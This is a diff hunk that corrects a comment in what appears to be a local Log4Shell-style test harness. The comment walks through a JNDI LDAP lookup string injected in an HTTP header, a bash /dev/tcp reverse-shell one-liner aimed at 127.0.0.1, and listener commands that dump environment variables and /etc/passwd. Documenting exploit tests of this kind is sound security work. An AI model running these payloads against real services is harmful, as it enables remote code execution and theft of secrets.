@@ -3,7 +3,7 @@
  *
  *   1. an HTTP request carries `${jndi:ldap://127.0.0.1:DIR/Exploit}` in a header;
  *   2. the Java service logs it, looks it up and connects to the directory stand-in;
- *   3. the answer makes it run `bash -c 'bash -i >& /dev/tcp/127.0.0.1:SHELL 0>&1'`;
+ *   3. the answer makes it run `bash -c 'bash -i >& /dev/tcp/127.0.0.1/SHELL 0>&1'`;
  *   4. the interactive bash's input and output are a connection to the shell listener,
  *      which types `id`, `env`, `cat /etc/passwd` and `exit`.
  *
